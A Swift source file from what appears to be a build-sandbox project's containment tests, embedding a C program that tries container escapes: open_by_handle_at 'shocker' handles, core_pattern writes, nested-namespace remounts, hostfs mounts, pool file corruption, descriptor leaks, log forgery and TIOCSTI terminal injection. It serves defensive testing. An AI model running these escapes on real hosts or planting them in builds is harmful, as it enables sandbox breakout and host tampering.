import Foundation

/// The attacks a dependency's install scriptlet (as root inside) or a build (as the
/// builder) runs: one static C program, compiled on the host with the canary's paths in
/// it (a Debian build root has no C compiler). Its modes: `escape` (file handles, host
/// paths, hostfs), `core-pattern`, `chattr`, `pool`, `fds`, `out-link`, `tty`, `net PORT NAME`,
/// and `all` (every mode but `out-link`, `tty` and `net`). One line per attempt: `ATTACK <step> <target>:
/// ...`; HANDLE-OPENED, LEAKED and WRITABLE mark an attempt that got through, WRITTEN a
/// pool file written (harmless on the sandbox's own copy).
enum AttackProgram {
    /// Compiles the program to `path`.
    static func compile(canary: Canary, to path: String) throws {
        let source = path + ".c"
        try text.write(toFile: source, atomically: true, encoding: .utf8)
        try ContainmentRoot.run("gcc -static -O1 -o \(quoted(path)) -DCANARY=\(quoted("\"" + canary.path + "\"")) "
                                + "-DHOSTWRITE=\(quoted("\"" + canary.hostWrite + "\"")) \(quoted(source))")
    }

    /// Markers of an attempt that worked.
    static let successWords = ["HANDLE-OPENED", "WRITABLE", "LEAKED"]

    /// The lines of `log` where an attempt worked (pool writes excepted: see ``poolWrites(in:)``).
    static func successes(in log: String) -> [String] {
        log.split(separator: "\n").map(String.init).filter { line in line.contains("ATTACK") && successWords.contains { line.contains($0) } }
    }

    /// The lines where a pool or database file was written (harmless on a private copy;
    /// the host's pool is compared separately).
    static func poolWrites(in log: String) -> [String] {
        log.split(separator: "\n").map(String.init).filter { $0.contains("ATTACK pool-write") && $0.contains("WRITTEN") }
    }

    static let text = #"""
// pacbuild containment test: the attacks of issue 13 as one static program.
// Compiled on the host at test time (AttackProgram.compile).
// Prints one line per attempt: "ATTACK <step> <target>: <result>". A result of
// HANDLE-OPENED, LEAKED or WRITABLE means the kernel let the attempt through.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <termios.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef CANARY
#define CANARY "/nonexistent/canary"
#endif
#ifndef HOSTWRITE
#define HOSTWRITE "/nonexistent/pwned"
#endif

static void result(const char *step, const char *target, int rc) {
    if (rc >= 0) printf("ATTACK %s %s: done\n", step, target);
    else printf("ATTACK %s %s: refused (%s)\n", step, target, strerror(errno));
    fflush(stdout);
}

/* Reads up to 200 bytes of fd and prints them as a leak. */
static void leak(const char *step, int fd) {
    char buffer[256];
    ssize_t n = read(fd, buffer, 200);
    if (n < 0) { result(step, "read", -1); return; }
    buffer[n] = 0;
    for (ssize_t i = 0; i < n; i++) if (buffer[i] == '\n') buffer[i] = ' ';
    printf("ATTACK %s: LEAKED <%s>\n", step, buffer);
    int out = open("/pacbuild/out/leak.txt", O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (out >= 0) { (void)!write(out, buffer, n); close(out); }
    fflush(stdout);
}

static void show(const char *path) {
    char buffer[512];
    int fd = open(path, O_RDONLY);
    if (fd < 0) { result("show", path, -1); return; }
    ssize_t n = read(fd, buffer, sizeof buffer - 1);
    close(fd);
    if (n < 0) n = 0;
    buffer[n] = 0;
    printf("ATTACK show %s: %s\n", path, buffer);
    fflush(stdout);
}

static void identity(void) {
    printf("ATTACK identity: uid=%d euid=%d pid=%d\n", getuid(), geteuid(), getpid());
    FILE *status = fopen("/proc/self/status", "r");
    char line[256];
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp", 7))
            printf("ATTACK identity: %s", line);
    if (status) fclose(status);
    show("/proc/self/uid_map");
    fflush(stdout);
}

/* With a directory descriptor on the host's file system: the finding's steps. */
static void exploit(int root) {
    int fd = openat(root, CANARY + 1, O_RDONLY);
    if (fd >= 0) { leak("handle-canary", fd); close(fd); } else result("handle-canary", CANARY, -1);
    fd = openat(root, HOSTWRITE + 1, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) { (void)!write(fd, "pwned\n", 6); close(fd); printf("ATTACK handle-write: WRITABLE %s\n", HOSTWRITE); }
    else result("handle-write", HOSTWRITE, -1);
    fd = openat(root, "proc/sys/kernel/core_pattern", O_WRONLY);
    if (fd >= 0) { (void)!write(fd, "|/bin/false pacbuild-pwned", 26); close(fd); printf("ATTACK handle-core_pattern: WRITABLE\n"); }
    else result("handle-core_pattern", "write", -1);
    fflush(stdout);
}

/* Handles the attacker never got from name_to_handle_at: ext4's root directory
   (inode 2, generation 0) as FILEID_INO32_GEN, as in the "shocker" exploit. Kept in
   static storage (below 4 GiB in a non-PIE static binary) for the i386 entry too. */
static struct { unsigned int bytes; int type; unsigned char handle[8]; } guess = { 8, 1, { 2, 0, 0, 0, 0, 0, 0, 0 } };

static void try_handles(const char *mountpoint) {
    int mount_fd = open(mountpoint, O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) return;
    struct { unsigned int bytes; int type; unsigned char handle[128]; } real = { 128, 0, { 0 } };
    int mount_id = 0;
    int rc = syscall(SYS_name_to_handle_at, mount_fd, "", &real, &mount_id, AT_EMPTY_PATH);
    result("name_to_handle_at", mountpoint, rc);
    int fd = syscall(SYS_open_by_handle_at, mount_fd, &guess, O_RDONLY | O_DIRECTORY);
    if (fd >= 0) { printf("ATTACK open_by_handle_at %s: HANDLE-OPENED\n", mountpoint); exploit(fd); close(fd); }
    else result("open_by_handle_at", mountpoint, fd);
    if (rc == 0) {
        fd = syscall(SYS_open_by_handle_at, mount_fd, &real, O_RDONLY);
        if (fd >= 0) { printf("ATTACK open_by_handle_at-real %s: HANDLE-OPENED\n", mountpoint); close(fd); }
        else result("open_by_handle_at-real", mountpoint, fd);
    }
    /* x32 system call number, then the i386 entry (int 0x80, number 342) */
    fd = syscall(__NR_open_by_handle_at | 0x40000000, mount_fd, &guess, O_RDONLY | O_DIRECTORY);
    if (fd >= 0) { printf("ATTACK open_by_handle_at-x32 %s: HANDLE-OPENED\n", mountpoint); exploit(fd); close(fd); }
    else result("open_by_handle_at-x32", mountpoint, fd);
    long ret;
    __asm__ volatile ("int $0x80" : "=a"(ret) : "a"(342), "b"(mount_fd), "c"(&guess), "d"(O_RDONLY | O_DIRECTORY) : "memory");
    if (ret >= 0) { printf("ATTACK open_by_handle_at-i386 %s: HANDLE-OPENED\n", mountpoint); exploit((int)ret); close((int)ret); }
    else { errno = (int)-ret; result("open_by_handle_at-i386", mountpoint, -1); }
    close(mount_fd);
}

static void handles(void) {
    FILE *mounts = fopen("/proc/self/mountinfo", "r");
    char line[4096];
    while (mounts && fgets(line, sizeof line, mounts)) {
        printf("ATTACK mountinfo: %s", line);
        char point[2048];
        if (sscanf(line, "%*s %*s %*s %*s %2047s", point) == 1) try_handles(point);
    }
    if (mounts) fclose(mounts);
}

static void write_core_pattern(const char *path, const char *step) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        ssize_t n = write(fd, "|/bin/false pacbuild-pwned", 26);
        close(fd);
        if (n > 0) printf("ATTACK %s: WRITABLE %s\n", step, path); else result(step, path, -1);
    } else result(step, path, -1);
    fflush(stdout);
}

static int map_self(void) {
    /* in a fresh user namespace: map root to the caller's id so mounts may be tried */
    char text[64];
    uid_t uid = getuid(); gid_t gid = getgid();
    int fd = open("/proc/self/setgroups", O_WRONLY); if (fd >= 0) { (void)!write(fd, "deny", 4); close(fd); }
    fd = open("/proc/self/uid_map", O_WRONLY); if (fd >= 0) { int n = snprintf(text, sizeof text, "0 %d 1", uid); (void)!write(fd, text, n); close(fd); }
    fd = open("/proc/self/gid_map", O_WRONLY); if (fd >= 0) { int n = snprintf(text, sizeof text, "0 %d 1", gid); (void)!write(fd, text, n); close(fd); }
    return 0;
}

static void core_pattern(void) {
    show("/proc/sys/kernel/core_pattern");
    write_core_pattern("/proc/sys/kernel/core_pattern", "core_pattern");
    int fd = open("/proc/sysrq-trigger", O_WRONLY);
    if (fd >= 0) { (void)!write(fd, "h", 1); close(fd); printf("ATTACK sysrq-trigger: WRITABLE\n"); } else result("sysrq-trigger", "open", -1);
    fd = open("/sys/kernel/uevent_helper", O_WRONLY);
    if (fd >= 0) { close(fd); printf("ATTACK uevent_helper: WRITABLE\n"); } else result("uevent_helper", "open", -1);
    /* as root of a nested user namespace: remount /proc/sys writable, or detach it */
    pid_t child = fork();
    if (child == 0) {
        int rc = unshare(CLONE_NEWUSER | CLONE_NEWNS);
        result("nested-unshare", "user+mount", rc);
        if (rc == 0) {
            map_self();
            result("nested-remount-rw", "/proc/sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
            write_core_pattern("/proc/sys/kernel/core_pattern", "nested-core_pattern");
            result("nested-umount", "/proc/sys", umount2("/proc/sys", MNT_DETACH));
            write_core_pattern("/proc/sys/kernel/core_pattern", "nested-core_pattern-umounted");
            result("nested-remount-rw", "/sys", mount(NULL, "/sys", NULL, MS_REMOUNT, NULL));
        }
        _exit(0);
    }
    waitpid(child, NULL, 0);
    /* a fresh proc in a nested user and PID namespace */
    child = fork();
    if (child == 0) {
        int rc = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID);
        result("nested-unshare", "user+mount+pid", rc);
        if (rc == 0) {
            map_self();
            pid_t inner = fork();
            if (inner == 0) {
                mkdir("/tmp/pacbuild-attack-proc", 0755);
                int m = mount("proc", "/tmp/pacbuild-attack-proc", "proc", 0, NULL);
                result("nested-proc-mount", "/tmp/pacbuild-attack-proc", m);
                if (m == 0) write_core_pattern("/tmp/pacbuild-attack-proc/sys/kernel/core_pattern", "nested-proc-core_pattern");
                _exit(0);
            }
            waitpid(inner, NULL, 0);
        }
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

static void immutable(const char *path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW);
    if (fd < 0) { result("chattr+i", path, -1); return; }
    int flags = 0;
    if (ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0) { result("chattr+i", path, -1); close(fd); return; }
    flags |= FS_IMMUTABLE_FL;
    result("chattr+i", path, ioctl(fd, FS_IOC_SETFLAGS, &flags));
    flags = (flags & ~FS_IMMUTABLE_FL) | FS_APPEND_FL;
    result("chattr+a", path, ioctl(fd, FS_IOC_SETFLAGS, &flags));
    close(fd);
}

static void create(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) { (void)!write(fd, "x\n", 2); close(fd); }
}

/* Each regular file (links followed, as a scriptlet's `echo >` would) under dir/any/. */
static void each_repository_file(const char *dir, void (*action)(const char *)) {
    DIR *top = opendir(dir);
    struct dirent *repo;
    while (top && (repo = readdir(top))) {
        if (repo->d_name[0] == '.' && (repo->d_name[1] == 0 || (repo->d_name[1] == '.' && repo->d_name[2] == 0))) continue;
        char sub[1024];
        snprintf(sub, sizeof sub, "%s/%s", dir, repo->d_name);
        DIR *inner = opendir(sub);
        struct dirent *file;
        while (inner && (file = readdir(inner))) {
            if (file->d_name[0] == '.') continue;
            char path[2048];
            snprintf(path, sizeof path, "%s/%s", sub, file->d_name);
            action(path);
        }
        if (inner) closedir(inner);
    }
    if (top) closedir(top);
}

static void immutables(void) {
    create("/pacbuild/out/immutable-test");
    create("/tmp/immutable-test");
    create("/pacbuild/immutable-test");
    mkdir("/pacbuild/immutable-dir", 0755);
    const char *paths[] = { "/pacbuild", "/pacbuild/src", "/pacbuild/src/PKGBUILD", "/pacbuild/out", "/pacbuild/job.sh",
                            "/pacbuild/out/immutable-test", "/pacbuild/immutable-test", "/pacbuild/immutable-dir",
                            "/tmp", "/tmp/immutable-test", "/usr/bin/sh", NULL };
    for (int i = 0; paths[i]; i++) immutable(paths[i]);
    each_repository_file("/pacbuild/repos", immutable);
    each_repository_file("/pacbuild/.pools", immutable);
}

static void corrupt(const char *path) {
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    if (fd >= 0) {
        ssize_t n = pwrite(fd, "CORRUPTED-BY-SCRIPTLET", 22, 0);
        close(fd);
        if (n > 0) printf("ATTACK pool-write %s: WRITTEN\n", path); else result("pool-write", path, -1);
    } else result("pool-write", path, -1);
    result("pool-truncate", path, truncate(path, 0));
    char moved[2100];
    snprintf(moved, sizeof moved, "%s.moved", path);
    result("pool-rename", path, rename(path, moved));
    fflush(stdout);
}

static void remount_pools(const char *dir) {
    DIR *top = opendir(dir);
    struct dirent *entry;
    while (top && (entry = readdir(top))) {
        if (entry->d_name[0] == '.') continue;
        char path[1024];
        snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
        result("pool-remount-rw", path, mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
        result("pool-umount", path, umount2(path, MNT_DETACH));
    }
    if (top) closedir(top);
}

static void pool(void) {
    remount_pools("/pacbuild/.pools");
    pid_t child = fork();
    if (child == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) { map_self(); remount_pools("/pacbuild/.pools"); }
        else result("nested-unshare", "pools", -1);
        each_repository_file("/pacbuild/.pools", corrupt);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    each_repository_file("/pacbuild/.pools", corrupt);
    each_repository_file("/pacbuild/repos", corrupt);
}

static void direct(void) {
    int fd = open(CANARY, O_RDONLY);
    if (fd >= 0) { leak("direct-canary", fd); close(fd); } else result("direct-canary", CANARY, -1);
    fd = open(HOSTWRITE, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) { close(fd); printf("ATTACK direct-write: WRITABLE %s\n", HOSTWRITE); } else result("direct-write", HOSTWRITE, -1);
    /* hostfs (User Mode Linux): a mount of the host's / through the prefix */
    mkdir("/tmp/pacbuild-attack-hostfs", 0755);
    const char *sources[] = { "/../../../../../../../..", "../../../../../../../..", "/", NULL };
    for (int i = 0; sources[i]; i++) {
        int rc = mount("none", "/tmp/pacbuild-attack-hostfs", "hostfs", 0, sources[i]);
        result("hostfs-mount", sources[i], rc);
        if (rc == 0) {
            char path[4096];
            snprintf(path, sizeof path, "/tmp/pacbuild-attack-hostfs%s", CANARY);
            fd = open(path, O_RDONLY);
            if (fd >= 0) { leak("hostfs-canary", fd); close(fd); } else result("hostfs-canary", path, -1);
            snprintf(path, sizeof path, "/tmp/pacbuild-attack-hostfs%s", HOSTWRITE);
            fd = open(path, O_WRONLY | O_CREAT, 0644);
            if (fd >= 0) { (void)!write(fd, "pwned\n", 6); close(fd); printf("ATTACK hostfs-write: WRITABLE %s\n", HOSTWRITE); }
            else result("hostfs-write", path, -1);
            umount2("/tmp/pacbuild-attack-hostfs", MNT_DETACH);
        }
    }
}

/* Replaces /pacbuild/out with a link to the canary's directory: whoever copies out/
   back on the host and follows the link copies the host's files. */
static void out_link(void) {
    char dir[4096];
    snprintf(dir, sizeof dir, "%s", CANARY);
    *strrchr(dir, '/') = 0;
    DIR *out = opendir("/pacbuild/out");
    struct dirent *entry;
    while (out && (entry = readdir(out))) {
        if (entry->d_name[0] == '.') continue;
        char path[1024]; snprintf(path, sizeof path, "/pacbuild/out/%s", entry->d_name); unlink(path);
    }
    if (out) closedir(out);
    result("out-rmdir", "/pacbuild/out", rmdir("/pacbuild/out"));
    result("out-symlink", dir, symlink(dir, "/pacbuild/out"));
}

/* Every descriptor beyond stdin, stdout and stderr came from the host: a regular file
   is read (LEAKED), and the build's own log, which the host keeps out of the
   sandbox's reach, is truncated and forged (WRITABLE). */
static void descriptors(void) {
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        char link[64], target[4096];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        target[n > 0 ? n : 0] = 0;
        printf("ATTACK fd %d: inherited -> %s\n", fd, target);
        struct stat info;
        if (fstat(fd, &info) < 0 || !S_ISREG(info.st_mode)) continue;
        size_t length = strlen(target);
        if (length > 9 && !strcmp(target + length - 9, "build.log")) {
            int cut = ftruncate(fd, 0);
            ssize_t w = pwrite(fd, "FORGED-BY-THE-BUILD\n", 20, 0);
            if (cut == 0 || w > 0) printf("ATTACK fd-log %d: WRITABLE (truncated: %s)\n", fd, cut == 0 ? "yes" : "no");
            else result("fd-log", target, -1);
            continue;
        }
        char buffer[256];
        n = pread(fd, buffer, 200, 0);
        if (n > 0) { buffer[n] = 0; for (ssize_t i = 0; i < n; i++) if (buffer[i] == '\n') buffer[i] = ' '; printf("ATTACK fd-read %d: LEAKED <%s>\n", fd, buffer); }
    }
    fflush(stdout);
}

/* The terminal the host process runs on, if it has one: /dev/tty is the controlling
   terminal of the session the sandbox's processes are still in. TIOCSTI types a
   command into it for the shell that reads the terminal after pacbuild. */
static void terminal(void) {
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (fd < 0) { result("tty-open", "/dev/tty", -1); return; }
    printf("ATTACK tty-open /dev/tty: done\n");
    const char *command = "touch " HOSTWRITE "\n";
    int typed = 1;
    for (const char *c = command; *c; c++) if (ioctl(fd, TIOCSTI, c) < 0) { typed = 0; break; }
    if (typed) printf("ATTACK tty-inject: WRITABLE (typed: touch %s)\n", HOSTWRITE); else result("tty-inject", "TIOCSTI", -1);
    close(fd);
    fflush(stdout);
}

/* The host's loopback services and abstract unix sockets (the store's PostgreSQL on
   127.0.0.1, a container runtime's shim): reachable only from the host's network
   namespace. Arguments: a TCP port on 127.0.0.1 and an abstract socket name. */
static void network(const char *port, const char *name) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in inet = { .sin_family = AF_INET, .sin_port = htons(atoi(port)), .sin_addr = { htonl(INADDR_LOOPBACK) } };
    if (connect(fd, (struct sockaddr *)&inet, sizeof inet) == 0) printf("ATTACK net-loopback %s: WRITABLE (connected)\n", port);
    else result("net-loopback", port, -1);
    close(fd);
    fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un unix_address = { .sun_family = AF_UNIX };
    strncpy(unix_address.sun_path + 1, name, sizeof unix_address.sun_path - 2);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    if (connect(fd, (struct sockaddr *)&unix_address, length) == 0) printf("ATTACK net-abstract @%s: WRITABLE (connected)\n", name);
    else result("net-abstract", name, -1);
    close(fd);
    fflush(stdout);
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "all";
    printf("ATTACK start %s\n", mode);
    identity();
    int all = !strcmp(mode, "all");
    if (all || !strcmp(mode, "escape")) { direct(); handles(); }
    if (all || !strcmp(mode, "core-pattern")) core_pattern();
    if (all || !strcmp(mode, "chattr")) immutables();
    if (all || !strcmp(mode, "pool")) pool();
    if (!strcmp(mode, "out-link")) out_link();
    if (all || !strcmp(mode, "fds")) descriptors();
    if (!strcmp(mode, "tty")) terminal();
    if (!strcmp(mode, "net") && argc > 3) network(argv[2], argv[3]);
    printf("ATTACK end %s\n", mode);
    return 0;
}
"""#
}
